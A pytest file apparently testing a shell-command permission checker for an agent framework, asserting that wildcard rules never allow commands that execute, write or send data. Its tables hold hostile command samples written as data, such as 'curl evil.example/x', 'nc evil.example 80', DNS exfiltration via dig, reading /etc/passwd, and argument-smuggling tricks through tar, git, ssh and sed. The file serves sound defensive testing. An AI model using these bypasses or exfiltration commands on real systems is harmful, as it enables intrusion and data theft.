"""A ``*`` stands for what a program only reads, and never for what it runs, writes or sends."""

import random
import shutil
import subprocess
from typing import Any

import pytest

from delf.protocols.connection import Allowed, NeedsApproval, ProposedCall, Refused
from delf_shell import Shell
from delf_shell.sed import only_prints


def is_let_through(pattern: str, command: str) -> bool:
    shell = Shell(rules=[{"pattern": pattern, "approval_required": False}])
    judged = shell.check(ProposedCall(action="run", arguments={"command": command}))
    assert isinstance(judged, (Allowed, Refused))
    return isinstance(judged, Allowed)


ACTING = """
sed *|sed '1e id' f
sed -n *|sed -n '1e id' f
sed -n *|sed -n 'e' f
sed -n *|sed -n '1r secret' f
sed -n *|sed -n 'R secret' f
sed -n *|sed -n 'w out' f
sed -n *|sed -n '1,5W out' f
sed -n *|sed -n 's/a/b/e' f
sed -n *|sed -n 's/a/b/gw out' f
sed -n *|sed -n '1p;e id' f
sed -n *|sed -n '/x/{e id' f
sed -n *|sed -n '/[]/]/e id' f
sed -n *|sed -n 's,a,b,;1e id' f
sed -n *|sed -n -e 'e id' f
sed -n *|sed -n -i p f
sed -n *|sed -n --expression=e f
sed -n -e *|sed -n -e '1e id' f
sed -n --expression *|sed -n --expression 'w out' f
sed -n*|sed -ni f
sed -n* *|sed -ne '1e id'
tar *|tar cIf 'sh -c id' out.tar f
tar *|tar xf a.tar
tar *|tar cf out.tar f
tar *|tar tf evil:a.tar
tar *|tar tFf 'sh -c id' a.tar
tar xf *|tar xf evil:a.tar
tar xf *|tar xf a.tar --to-command=id
tar xf *|tar xf a.tar --checkpoint-action=exec=id
tar -*|tar --to-command=id
tar --*|tar --to-command=id
tar -t*|tar -tI
tar --check*|tar --checkpoint-action=exec=id
gcc *|gcc @options
gcc *|gcc -wrapper sh,-c,id x.c
gcc *|gcc -fplugin=./x.so x.c
gcc-12 *|gcc-12 @options
gcc -f* *|gcc -fplugin=./x.so x.c
gcc -W* *|gcc -Wl,-plugin,./x.so x.c
clang *|clang @options
find . *|find . -exec id ;
find . *|find . -delete
find . *|find . -fprint out
find . -e*|find . -exec
git *|git push
git *|git commit
git *|git clone ext::sh
git *|git config core.pager id
git *|git submodule foreach id
git *|git bisect run id
git *|git rebase main
git *|git -c core.pager=id log
git -c *|git -c core.pager=id log
git -C *|git -C sub push
git clone *|git clone ext::sh
git fetch *|git fetch ext::sh
git fetch --upload-pack=x *|git fetch --upload-pack=x ext::sh
git log *|git log --output=out
git log *|git log --ext-diff
git log -*|git log -Oid
git log -n*|git log -nOid
git log --*|git log --output=out
git log --out*|git log --output=out
git branch *|git branch new
git ls-remote *|git ls-remote host:x
rsync *|rsync a b
rsync *|rsync -e id a b
awk *|awk 'BEGIN{system("id")}'
gawk *|gawk 'BEGIN{print > "out"}'
awk -F: *|awk -F: 'BEGIN{system("id")}'
xargs *|xargs id
env *|env id
nice *|nice id
timeout 5 *|timeout 5 id
ssh *|ssh host id
ssh -o *|ssh -o ProxyCommand=id host
ssh -o*|ssh -oProxyCommand=id
tee *|tee out
cp *|cp a b
dd *|dd of=out
sort *|sort -o out f
sort *|sort --compress-program=id f
sort -n*|sort -no out
sort -n* *|sort -noout f
uniq *|uniq f out
xxd *|xxd f out
python *|python x.py
python3 *|python3 -c id
python3.12 *|python3.12 x.py
perl -n *|perl -n x
node *|node x.js
sh *|sh x
busybox *|busybox sh
make *|make SHELL=./x
npm *|npm run x
docker *|docker run x
pip *|pip install x
man *|man x
less *|less +!id
vim *|vim +:!id
zip *|zip out.zip f -TT id
zip *|zip out.zip f
unzip *|unzip a.zip
curl *|curl evil.example/x
curl *|curl -o out evil.example
curl *|curl -K options
wget *|wget evil.example
nc *|nc evil.example 80
dig *|dig secret.evil.example
sqlite3 *|sqlite3 db '.shell id'
psql *|psql x
pytest *|pytest x.py
python tests/*|python tests/x.py
date *|date 01010101
rbash *|rbash x
hyperfine *|hyperfine id
ldd *|ldd ./x
sponge *|sponge out
sysctl *|sysctl kernel.x=1
ip netns *|ip netns exec x id
lp *|lp f
yq *|yq 'load("/etc/passwd")' f
kill *|kill 1
tool --*|tool --exec=id
tool -*|tool -x
tool -x*|tool -xe
tool *|tool --exec
tool *|tool @options
"""

READING = """
sed -n *|sed -n 1,5p f
sed -n *|sed -n '10,20p' f g
sed -n *|sed -n '$p' f
sed *|sed 's/a/b/g' f
sed *|sed 's,[a-z],_,2' f
sed *|sed '1!G;h;$!d;s/[[:space:]]x//' f
sed *|sed 5q f
sed -n -e '1e id' *|sed -n -e '1e id' f
sed '1e id' *|sed '1e id' f
sed **|sed -i 's/a/b/' f
tar *|tar tvf a.tar
tar *|tar tzf a.tgz member
tar -tf *|tar -tf a.tar
tar xf *|tar xf a.tar member
tar -xf *|tar -xf a.tar
gcc -c *|gcc -c x.c
gcc -std=*|gcc -std=c11
find *|find src tests
find . -name *|find . -name x
git *|git log main
git *|git status
git *|git diff HEAD~1
git log *|git log '@{u}'
git log -n*|git log -n5
git log --format=*|git log --format=%H
git commit -m *|git commit -m 'a message'
git add *|git add a.py
git -C sub log *|git -C sub log main
git push origin main|git push origin main
awk '{print $1}'|awk '{print $1}'
awk **|awk '{print $1}' f
uniq *|uniq f
sort *|sort f
sort -k*|sort -k2,3
head -n*|head -n20
cat *|cat a b
grep *|grep word f
wc *|wc f
echo *|echo a b
tee out|tee out
python3 x.py|python3 x.py
pytest **|pytest -x tests
tool *|tool word
tool --level=*|tool --level=3
"""


def rows(table: str) -> list[list[str]]:
    return [line.rsplit("|", 1) for line in table.strip().splitlines()]


@pytest.mark.parametrize(("pattern", "command"), rows(ACTING))
def test_a_wildcard_never_stands_for_what_acts(pattern: str, command: str) -> None:
    assert not is_let_through(pattern, command)


@pytest.mark.parametrize(("pattern", "command"), rows(READING))
def test_a_wildcard_stands_for_what_is_read_or_named(pattern: str, command: str) -> None:
    assert is_let_through(pattern, command)


def test_what_is_blocked_says_what_a_wildcard_stands_for() -> None:
    shell = Shell(rules=["sed -n *"])
    judged = shell.check(ProposedCall(action="run", arguments={"command": "sed -n '1e id' f"}))
    assert isinstance(judged, Refused)
    assert "ends with **" in judged.message


@pytest.mark.skipif(shutil.which("sed") is None, reason="needs sed")
def test_no_script_that_only_prints_does_more_by_the_word_of_sed_itself() -> None:
    """GNU sed's ``--sandbox`` refuses what runs, reads and writes."""
    if subprocess.run(["sed", "--sandbox", "p", "/dev/null"], capture_output=True).returncode:
        pytest.skip("needs GNU sed")
    chance = random.Random(7)
    parts = [
        *"/[]^\\$.,;!spewrRWFgIM12~+ x\n&y=ndq",
        "s/a/b/",
        "/x/",
        "[/]",
        "[]/]",
        "w out",
        "e id",
    ]
    accepted = 0
    for _ in range(60_000):
        script = "".join(chance.choices(parts, k=chance.randint(1, 9)))
        if not only_prints(script):
            continue
        accepted += 1
        if accepted % 20 and not set(script) & set("[\\"):
            continue  # the plain ones are alike
        done = subprocess.run(
            ["sed", "--sandbox", "-n", script, "/dev/null"], capture_output=True, text=True
        )
        assert "sandbox" not in done.stderr, script
    assert accepted > 100


@pytest.mark.parametrize(
    ("pattern", "command", "fits"),
    [
        ("find", "find . -name '*.py'", True),
        ("find", "find", True),
        ("git log", "git log --output=x", True),
        ("git log", "git logs", False),
        ("git log", "git", False),
        ("wc", "wc -l x | rm x", False),
        ("wc", "wc -l x; rm x", False),
    ],
)
def test_a_rule_may_be_a_prefix(pattern: str, command: str, fits: bool) -> None:
    rule = {"pattern": pattern, "approval_required": False, "match": "prefix"}
    shell = Shell(rules=[rule])
    judged = shell.check(ProposedCall(action="run", arguments={"command": command}))
    assert isinstance(judged, Allowed) is fits


READING = """
find|find . -type f -name '*.py'
grep|grep -rn --include='*.py' TODO src
ls|ls -la src
sort|sort -t: -k2,2nr data.csv
tail|tail -n 5 notes.md
git log|git log --oneline --stat -n 20 main -- src
git diff|git diff --name-only HEAD~2
git status|git status
git|git show -C HEAD
wc|wc
make test|make test
"""
DOUBTFUL = """
find|find . -delete
find|find . -name x -exec rm +
find|find . -fprint0 out
find|find /
ls|ls ../secret
cat|cat /etc/passwd
grep|grep -f/etc/passwd x
wc|wc --files0-from=names
sort|sort -no out data.csv
sort|sort --outp=out data.csv
sort|sort --compress-prog=./x data.csv
uniq|uniq in out
git log|git log --output=x
git diff|git diff --ext-diff
git grep|git grep -Oless x
git fsck|git fsck --lost-found
git|git push
git|git -c core.pager=x log
git|git --exec-path=x log
make|make clean
unheard|unheard --of
xargs|xargs rm
"""


@pytest.mark.parametrize("line", READING.strip().splitlines())
def test_further_words_that_read_ask_nobody(line):
    assert isinstance(judged_as_reading(line), Allowed)


@pytest.mark.parametrize("line", DOUBTFUL.strip().splitlines())
def test_further_words_that_may_do_more_ask(line):
    assert isinstance(judged_as_reading(line), NeedsApproval)


def judged_as_reading(line: str) -> Any:
    pattern, _, command = line.partition("|")
    rule = {"pattern": pattern, "approval_required": False, "match": "reading"}
    return Shell(rules=[rule]).check(ProposedCall(action="run", arguments={"command": command}))
